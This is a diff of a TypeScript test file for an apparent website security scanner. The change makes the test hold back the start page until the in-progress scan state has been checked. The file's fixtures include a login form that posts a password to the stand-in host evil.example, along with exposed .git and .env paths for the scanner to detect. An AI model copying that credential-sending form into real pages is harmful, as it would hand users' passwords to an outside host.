@@ -15,6 +15,8 @@ const settle = () => sandbox.control('POST', 'settle');
 
 let site: TestSite;
 const shown = { file: '', meta: '', body: '' };
+/** Until then, the start page is not returned. */
+let held: Promise<void> | undefined;
 const SECURE = {
   'content-security-policy': "default-src 'none'",
   'x-content-type-options': 'nosniff',
@@ -24,10 +26,13 @@ const SECURE = {
 beforeAll(async () => {
   site = await serveSite({
     '/.well-known/site-verification.txt': () => (shown.file ? { body: shown.file } : { status: 404 }),
-    '/': () => ({
-      headers: SECURE,
-      body: `<!doctype html><head>${shown.meta}</head>${shown.body}<a href="/in">In</a><a href="http://other.localhost:${site.port}/">Out</a>`,
-    }),
+    '/': async () => {
+      await held;
+      return {
+        headers: SECURE,
+        body: `<!doctype html><head>${shown.meta}</head>${shown.body}<a href="/in">In</a><a href="http://other.localhost:${site.port}/">Out</a>`,
+      };
+    },
     '/in': '<title>In</title><form action="http://evil.example/"><input type=password name=p></form>',
     '/.git/HEAD': 'ref: refs/heads/main\n',
     '/.env': '<h1>We show this page for everything</h1>',
@@ -162,6 +167,8 @@ describe('a scan', () => {
   it('SHD-16, SHD-12, SHD-13: reads the site’s page and grades it', async () => {
     const connected = await sandbox.connect();
     const at = await projectOf(connected);
+    const isSeen = Promise.withResolvers<void>();
+    held = isSeen.promise;
     const started = await start(connected.client, at, 'free');
     expect(started).toEqual({ ok: true, unreadable: 0, scan_id: started.scan_id, mode: 'free', charged: 0 });
     const begun = await scanOf(connected.client, started.scan_id);
@@ -179,6 +186,7 @@ describe('a scan', () => {
       findings_summary: null,
       share_report_url: null,
     });
+    isSeen.resolve();
     await settle();
     const scan = await scanOf(connected.client, started.scan_id);
     expect([scan.status, scan.verdict?.pages, scan.findings_summary?.critical]).toEqual(['done', 1, 0]);
